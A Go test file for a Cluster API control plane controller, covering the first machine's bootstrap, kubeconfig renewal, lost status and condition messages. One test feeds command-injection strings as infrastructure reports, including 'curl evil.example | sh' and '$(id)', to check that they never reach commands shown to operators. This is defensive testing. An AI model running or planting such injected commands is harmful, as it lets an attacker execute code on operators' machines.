package controlplane

import (
	"context"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/utils/ptr"
	clusterv1 "sigs.k8s.io/cluster-api/api/core/v1beta2"
	"sigs.k8s.io/cluster-api/util/conditions"
	ctrl "sigs.k8s.io/controller-runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/hullmark/hullmark"
	"github.com/hullmark/hullmark/cluster"
	"github.com/hullmark/hullmark/cluster/operate"
	"github.com/hullmark/hullmark/joinservice"
	"github.com/hullmark/hullmark/tools/capi/api/controlplane/v1alpha1"
)

// The first machine is made, waits for the lent file, and the cluster runs on it, with a kubeconfig.
func TestBegin(t *testing.T) {
	w := newWorld(t)
	message := w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason)
	first := w.plane().Status.First
	for _, part := range []string{
		"hullmark cluster lend c-lent.sealed", "--recipient " + w.custody.Recipient(), "--ekid " + first.EKID, "--name " + first.Machine,
		"--provider-id stub://" + first.Machine, "kubectl create secret generic c-lent -n ns --from-file=cluster=", "cluster.x-k8s.io/cluster-name=c clusterctl.cluster.x-k8s.io/move=",
	} {
		if !strings.Contains(message, part) {
			t.Errorf("the condition does not say %q: %s", part, message)
		}
	}
	if strings.Contains(message, "--replace-first") {
		t.Errorf("it has somebody give up what nobody had: %s", message)
	}
	w.begun = func(_ context.Context, f *cluster.File, o operate.InitOptions) error {
		k := o.Kubernetes
		if o.Name != first.Machine || o.Address != "192.0.2.11:7443" || o.Endpoint != "192.0.2.7:6443" || o.Anchor.EKID.String() != first.EKID ||
			k.ControlPlane != "192.0.2.7:6443" || !k.Flannel || k.PodSubnet.String() != "10.244.0.0/16" || k.ServiceSubnet.String() != "10.96.0.0/12" {
			t.Errorf("it was begun with %+v", o)
		}
		return w.begin(f, o)
	}
	w.lendFirst(false)
	w.reason(v1alpha1.BegunCondition, v1alpha1.BegunReason)
	w.reconcile()
	p := w.plane()
	if !ptr.Deref(p.Status.Initialization.ControlPlaneInitialized, false) || !conditions.IsTrue(p, v1alpha1.InitializedCondition) || !conditions.IsTrue(p, v1alpha1.AvailableCondition) {
		t.Errorf("status: %+v", p.Status)
	}
	if names := w.list(); len(names) != 1 || *p.Status.Replicas != 1 {
		t.Errorf("Machines: %q", names)
	}
	secret := &corev1.Secret{}
	w.must(w.Get(t.Context(), client.ObjectKey{Namespace: "ns", Name: "c-kubeconfig"}, secret))
	if secret.Type != clusterv1.ClusterSecretType || secret.Labels[clusterv1.ClusterNameLabel] != "c" || !ownedBy(secret, p) {
		t.Errorf("kubeconfig: %+v", secret.ObjectMeta)
	}
	ends := kubeconfigEnds(secret.Data["value"], w.whole.KubernetesCA(), "192.0.2.7:6443")
	if left := ends.Sub(w.clock); left < kubeconfigValidity-time.Minute || left > kubeconfigValidity {
		t.Errorf("its certificate is good for %v", left)
	}
}

// The kubeconfig is made anew at half of its certificate's life, and if somebody changed it.
func TestKubeconfigIsRenewed(t *testing.T) {
	w := newWorld(t)
	w.start()
	key := client.ObjectKey{Namespace: "ns", Name: "c-kubeconfig"}
	get := func() string {
		secret := &corev1.Secret{}
		w.must(w.Get(t.Context(), key, secret))
		return string(secret.Data["value"])
	}
	was := get()
	w.clock = w.clock.Add(kubeconfigValidity/2 - time.Minute)
	if w.reconcile(); get() != was {
		t.Error("it was made anew too early")
	}
	w.clock = w.clock.Add(2 * time.Minute)
	if w.reconcile(); get() == was {
		t.Error("it was not made anew")
	}
	secret := &corev1.Secret{}
	w.must(w.Get(t.Context(), key, secret))
	secret.Data["value"], secret.Labels = []byte("garbage"), nil
	w.must(w.Update(t.Context(), secret))
	w.reconcile()
	w.must(w.Get(t.Context(), key, secret))
	if kubeconfigEnds(secret.Data["value"], w.whole.KubernetesCA(), "192.0.2.7:6443").IsZero() || secret.Labels[clusterv1.ClusterNameLabel] != "c" {
		t.Errorf("what somebody wrote stays: %+v", secret)
	}
	secret.OwnerReferences = nil
	secret.Data["value"] = []byte("somebody's")
	w.must(w.Update(t.Context(), secret))
	w.reason(v1alpha1.KubeconfigAvailableCondition, "SecretNameTaken")
	if get() != "somebody's" {
		t.Error("a Secret of somebody else was written over")
	}
}

// A control plane whose status is lost, by clusterctl move or a restore, is the one that it was: whichever of its machines comes first now, and
// though the one that the file was lent for is gone. Another cluster's file makes no cluster begun.
func TestStatusIsLost(t *testing.T) {
	w := newWorld(t)
	w.start()
	machines := w.list()
	infra := stub("StubMachine", machines[0])
	w.must(w.Get(t.Context(), client.ObjectKeyFromObject(infra), infra))
	w.must(unstructured.SetNestedField(infra.Object, hullmark.EKID{98}.String(), "status", "ekID"))
	w.must(w.Update(t.Context(), infra))
	w.begun = func(context.Context, *cluster.File, operate.InitOptions) error {
		t.Error("it was begun anew")
		return errors.New("it runs")
	}
	lose := func() {
		p := w.plane()
		p.Status = v1alpha1.HullmarkControlPlaneStatus{}
		w.must(w.Status().Update(t.Context(), p))
	}
	lose()
	w.reason(v1alpha1.BegunCondition, v1alpha1.BegunReason)
	w.reconcile()
	if p := w.plane(); !ptr.Deref(p.Status.Initialization.ControlPlaneInitialized, false) || !slices.Equal(w.list(), machines) {
		t.Errorf("Machines %q, were %q; status %+v", w.list(), machines, p.Status)
	}
	w.change(func(p *v1alpha1.HullmarkControlPlane) { p.Spec.Config.ClusterRoot = strings.Repeat("12", 32) })
	lose()
	w.reason(v1alpha1.BegunCondition, v1alpha1.ClusterFileInvalidReason)
}

// start takes the world to a cluster that runs on one machine.
func (w *world) start() {
	w.Helper()
	w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason)
	w.lendFirst(false)
	w.reason(v1alpha1.BegunCondition, v1alpha1.BegunReason)
	w.reconcile()
}

// TestBegunConditions is the table of what a beginning waits for, or is refused for.
func TestBegunConditions(t *testing.T) {
	type edit func(*v1alpha1.HullmarkControlPlane, *clusterv1.Cluster)
	for name, test := range map[string]struct {
		edit    edit
		lend    func(*world)
		begun   error
		reason  string
		message string
	}{
		"no infrastructure": {
			edit: func(_ *v1alpha1.HullmarkControlPlane, c *clusterv1.Cluster) {
				c.Status.Initialization.InfrastructureProvisioned = nil
			},
			reason: v1alpha1.WaitingForInfrastructureReason, message: "Cluster c",
		},
		"no endpoint": {
			edit: func(_ *v1alpha1.HullmarkControlPlane, c *clusterv1.Cluster) {
				c.Spec.ControlPlaneEndpoint = clusterv1.APIEndpoint{}
			},
			reason: v1alpha1.WaitingForEndpointReason, message: "controlPlaneEndpoint",
		},
		"lent to somebody else": {
			lend:   func(w *world) { w.custody.set([]byte("age-encryption.org/v1\ngarbage")) },
			reason: v1alpha1.ClusterFileInvalidReason, message: "hullmark cluster lend",
		},
		"another cluster's": {lend: func(w *world) {
			other, err := cluster.New()
			w.must(err)
			w.whole = other
			w.lendFirst(false)
		}, reason: v1alpha1.ClusterFileInvalidReason, message: "spec.config.clusterRoot"},
		"an authority that is not the file's": {lend: func(w *world) {
			other, err := cluster.New()
			w.must(err)
			w.provide(other)
			w.lendFirst(false)
		}, reason: v1alpha1.ClusterFileInvalidReason, message: "hullmark cluster new --pki"},
		"the file's own authority": {lend: func(w *world) {
			w.provide(w.whole)
			w.lendFirst(false)
		}, begun: errors.New("it was asked for"), reason: v1alpha1.BeginFailedReason, message: "it was asked for"},
		"for another machine": {
			lend: func(w *world) {
				w.lend(hullmark.EKID{99}.String(), w.plane().Status.First.Machine, "stub://"+w.plane().Status.First.Machine, false)
			},
			reason: v1alpha1.WaitingForClusterFileReason, message: "--replace-first",
		},
		"with another name": {
			lend: func(w *world) {
				w.lend(w.plane().Status.First.EKID, "cp", "stub://"+w.plane().Status.First.Machine, false)
			},
			reason: v1alpha1.WaitingForClusterFileReason, message: `name "cp"`,
		},
		"with another provider ID": {
			lend:   func(w *world) { w.lend(w.plane().Status.First.EKID, w.plane().Status.First.Machine, "", false) },
			reason: v1alpha1.WaitingForClusterFileReason, message: `provider ID ""`,
		},
		"another version": {
			edit: func(p *v1alpha1.HullmarkControlPlane, _ *clusterv1.Cluster) { p.Spec.Version = "v1.35.4" },
			lend: func(w *world) { w.lendFirst(false) }, reason: v1alpha1.VersionMismatchReason, message: "1.36.3",
		},
		"two pod networks of a family": {edit: func(_ *v1alpha1.HullmarkControlPlane, c *clusterv1.Cluster) {
			c.Spec.ClusterNetwork.Pods.CIDRBlocks = []string{"10.1.0.0/16", "10.2.0.0/16"}
		}, lend: func(w *world) { w.lendFirst(false) }, reason: v1alpha1.SpecRefusedReason, message: "clusterNetwork.pods"},
		"a family of pods alone": {edit: func(_ *v1alpha1.HullmarkControlPlane, c *clusterv1.Cluster) {
			c.Spec.ClusterNetwork.Pods.CIDRBlocks = []string{"10.1.0.0/16", "fd00::/56"}
		}, lend: func(w *world) { w.lendFirst(false) }, reason: v1alpha1.SpecRefusedReason, message: "the same families"},
		"another domain": {
			edit: func(_ *v1alpha1.HullmarkControlPlane, c *clusterv1.Cluster) {
				c.Spec.ClusterNetwork.ServiceDomain = "prod.internal"
			},
			lend: func(w *world) { w.lendFirst(false) }, reason: v1alpha1.SpecRefusedReason, message: "serviceDomain",
		},
		"a manifest that is not there": {edit: func(p *v1alpha1.HullmarkControlPlane, _ *clusterv1.Cluster) {
			p.Spec.Kubernetes = v1alpha1.KubernetesSpec{Network: v1alpha1.NoNetwork, Manifests: []v1alpha1.ManifestReference{{Name: "cni"}}}
		}, lend: func(w *world) { w.lendFirst(false) }, reason: v1alpha1.SpecRefusedReason, message: "ConfigMap cni"},
		"a cause that passes": {
			lend: func(w *world) { w.lendFirst(false) }, begun: &hullmark.Condition{Code: "busy", Title: "wait", Retry: true},
			reason: v1alpha1.BeginRetryingReason, message: "tried again",
		},
		"unreachable": {lend: func(w *world) { w.lendFirst(false) }, begun: operate.ErrUnreachable, reason: v1alpha1.BeginRetryingReason},
		"begun by somebody else": {
			lend: func(w *world) { w.lendFirst(false) }, begun: &hullmark.Condition{Code: "already-begun", Title: "in use"},
			reason: v1alpha1.BeginInterruptedReason, message: "hullmark init",
		},
		"refused": {lend: func(w *world) { w.lendFirst(false) }, begun: operate.ErrMismatch, reason: v1alpha1.BeginFailedReason, message: "delete Machine c-cp-"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var w *world
			if test.edit == nil {
				w = newWorld(t)
			} else {
				w = newWorld(t, test.edit)
			}
			w.begun = func(context.Context, *cluster.File, operate.InitOptions) error { return test.begun }
			if test.lend != nil {
				w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason)
				test.lend(w)
			}
			if message := w.reason(v1alpha1.BegunCondition, test.reason); !strings.Contains(message, test.message) {
				t.Errorf("want %q in: %s", test.message, message)
			}
			if p := w.plane(); ptr.Deref(p.Status.Initialization.ControlPlaneInitialized, false) || conditions.IsTrue(p, v1alpha1.InitializedCondition) {
				t.Error("it is initialized")
			}
		})
	}
}

// A template that is not there is an error of the API, and told in the condition all the same, as often as it is tried.
func TestTemplateIsMissing(t *testing.T) {
	w := newWorld(t, func(p *v1alpha1.HullmarkControlPlane, _ *clusterv1.Cluster) {
		p.Spec.MachineTemplate.Spec.InfrastructureRef.Name = "large"
	})
	w.reconcile() // which says that it is not paused
	for range 3 {
		if _, err := w.r.Reconcile(t.Context(), ctrl.Request{NamespacedName: planeKey}); err == nil {
			t.Fatal("no error")
		}
		c := conditions.Get(w.plane(), v1alpha1.BegunCondition)
		if c == nil || c.Reason != v1alpha1.WaitingForMachineReason || !strings.Contains(c.Message, "spec.machineTemplate.spec.infrastructureRef") {
			t.Errorf("condition: %+v", c)
		}
	}
}

// The first machine dies, or is deleted, before the cluster runs: another one takes its place, for which the file is lent again.
func TestFirstMachineDies(t *testing.T) {
	for name, given := range map[string]bool{"before it has a ticket": false, "with its ticket": true} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			ended := make(chan struct{})
			w.begun = func(ctx context.Context, f *cluster.File, o operate.InitOptions) error {
				if given {
					w.must(f.Update(func(c *cluster.Cluster) error {
						c.SetRecord(*o.Anchor.EKID, recordOf(1))
						return c.Commit(*o.Anchor.EKID, hullmark.UUID{1}, 1, hullmark.EtcdState{})
					}))
				}
				<-ctx.Done()
				close(ended)
				return ctx.Err()
			}
			w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason)
			first := w.plane().Status.First
			w.lendFirst(false)
			w.reason(v1alpha1.BegunCondition, v1alpha1.BeginningReason)
			w.must(w.Delete(t.Context(), &clusterv1.Machine{ObjectMeta: metaOf(first.Machine)}))
			w.until("another machine", func() error {
				if now := w.plane().Status.First; now.EKID == "" || now.Machine == first.Machine {
					return errors.New(now.Machine)
				}
				return nil
			})
			select {
			case <-ended:
			case <-time.After(10 * time.Second):
				t.Fatal("the beginning of the one that is gone goes on")
			}
			w.begun = nil
			if message := w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason); !strings.Contains(message, "--replace-first") {
				t.Errorf("it does not say how: %s", message)
			}
			w.lendFirst(true)
			w.reason(v1alpha1.BegunCondition, v1alpha1.BegunReason)
			if names := w.list(); len(names) != 1 || names[0] == first.Machine {
				t.Errorf("Machines: %q", names)
			}
		})
	}
}

// A controller that was killed while the first machine started finds that it runs, and does not begin it again.
func TestBegunWithoutTheController(t *testing.T) {
	w := newWorld(t)
	tried := 0
	w.begun = func(_ context.Context, f *cluster.File, o operate.InitOptions) error {
		if tried++; tried > 1 {
			t.Error("it was begun again")
		}
		w.must(f.Update(func(c *cluster.Cluster) error {
			record := o.Anchor.EKID
			c.SetRecord(*record, recordOf(1))
			return c.Commit(*record, hullmark.UUID{1}, 1, hullmark.EtcdState{})
		}))
		w.workload.join(*o.Anchor.EKID, o.Name)
		return operate.ErrUnreachable // The stream broke.
	}
	w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason)
	w.lendFirst(false)
	w.reason(v1alpha1.BegunCondition, v1alpha1.BeginRetryingReason)
	w.r.jobs.stop()
	w.r = w.controller(w.Client)
	w.reason(v1alpha1.BegunCondition, v1alpha1.BegunReason)
	file, err := w.custody.OpenCluster(t.Context(), client.ObjectKey{})
	if err != nil || file.Cluster.Initialised == nil {
		t.Errorf("the file does not tell that it runs: %v", err)
	}
}

// A Cluster that is deleted while its first machine starts: that is broken off, and nothing is left.
func TestDeletedWhileItBegins(t *testing.T) {
	w := newWorld(t)
	ended := make(chan struct{})
	w.begun = func(ctx context.Context, _ *cluster.File, o operate.InitOptions) error {
		o.Progress("a line\x1b[31m of a node")
		<-ctx.Done()
		close(ended)
		return ctx.Err()
	}
	w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason)
	w.lendFirst(false)
	w.reason(v1alpha1.BegunCondition, v1alpha1.BeginningReason)
	w.until("its progress is told", func() error {
		if got := w.plane().Status.First.Progress; got != "a line[31m of a node" {
			return errors.New(got)
		}
		return nil
	})
	c := &clusterv1.Cluster{}
	w.must(w.Get(t.Context(), client.ObjectKey{Namespace: "ns", Name: "c"}, c))
	c.Finalizers = []string{clusterv1.ClusterFinalizer}
	w.must(w.Update(t.Context(), c))
	w.must(w.Delete(t.Context(), c))
	w.reason(v1alpha1.BegunCondition, v1alpha1.DeletingReason)
	select {
	case <-ended:
	case <-time.After(10 * time.Second):
		t.Fatal("it goes on")
	}
	w.must(w.Delete(t.Context(), w.plane())) // as core does
	w.until("it is gone", func() error {
		if w.Get(t.Context(), planeKey, &v1alpha1.HullmarkControlPlane{}) == nil {
			return errors.New("it is there")
		}
		return nil
	})
	if names := w.list(); len(names) != 0 {
		t.Errorf("Machines %q", names)
	}
}

// One of another filter's is left alone.
func TestWatchFilter(t *testing.T) {
	w := newWorld(t)
	w.r.WatchFilter = "other"
	for range 3 {
		w.reconcile()
	}
	if p := w.plane(); len(w.list()) != 0 || len(p.Status.Conditions) != 0 || len(p.Finalizers) != 0 {
		t.Errorf("Machines %q, %+v", w.list(), p)
	}
	w.change(func(p *v1alpha1.HullmarkControlPlane) { p.Labels[clusterv1.WatchLabel] = "other" })
	w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason)
}

// What an infrastructure reports becomes no command of the person who runs what a condition says, and holds the root's key.
func TestReportsAreNoCommands(t *testing.T) {
	const hostile = "stub://x; curl evil.example | sh #"
	for name, report := range map[string]func(*world){
		"a provider ID":        func(w *world) { w.reportOf("StubMachine", hostile, "spec", "providerID") },
		"an agent's address":   func(w *world) { w.reportOf("StubMachine", hostile, "status", "agentAddress") },
		"a server":             func(w *world) { w.reportOf("StubCluster", hostile, "status", "apiServer") },
		"a server with a path": func(w *world) { w.reportOf("StubCluster", "192.0.2.9:6443/$(id)", "status", "apiServer") },
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			w.reason(v1alpha1.BegunCondition, v1alpha1.WaitingForClusterFileReason)
			report(w)
			w.reconcile()
			c := conditions.Get(w.plane(), v1alpha1.BegunCondition)
			if c.Reason == v1alpha1.WaitingForClusterFileReason || strings.Contains(c.Message, "--provider-id") || !strings.Contains(c.Message, "want ") {
				t.Errorf("%s: %s", c.Reason, c.Message)
			}
		})
	}
}

// reportOf has all of a kind of the infrastructure report something.
func (w *world) reportOf(kind, text string, path ...string) {
	w.Helper()
	list := &unstructured.UnstructuredList{}
	list.SetGroupVersionKind(stub(kind, "").GroupVersionKind())
	w.must(w.List(w.Context(), list))
	for i := range list.Items {
		w.must(unstructured.SetNestedField(list.Items[i].Object, text, path...))
		w.must(w.Update(w.Context(), &list.Items[i]))
	}
}

// A control plane whose root was exchanged is found to run after it was moved or restored, without a status: the lent file is of the first
// root. One of another cluster is not taken for it.
func TestFoundToRunByTheFirstRoot(t *testing.T) {
	w := newThree(t)
	w.change(func(p *v1alpha1.HullmarkControlPlane) { p.Spec.Config.ClusterRoot = strings.Repeat("7", 64) })
	w.reason(clusterv1.RollingOutCondition, clusterv1.RollingOutReason)
	forget := func() {
		p := w.plane()
		p.Status = v1alpha1.HullmarkControlPlaneStatus{}
		w.must(w.Status().Update(t.Context(), p))
	}
	forget()
	w.reason(v1alpha1.BegunCondition, v1alpha1.BegunReason)
	forget()
	w.workload.mutex.Lock()
	w.workload.view = View{Nodes: map[string]Node{}, Records: map[hullmark.EKID]joinservice.Machine{}}
	w.workload.mutex.Unlock()
	if message := w.reason(v1alpha1.BegunCondition, v1alpha1.ClusterFileInvalidReason); !strings.Contains(message, "is of cluster root") {
		t.Errorf("the condition says %q", message)
	}
}
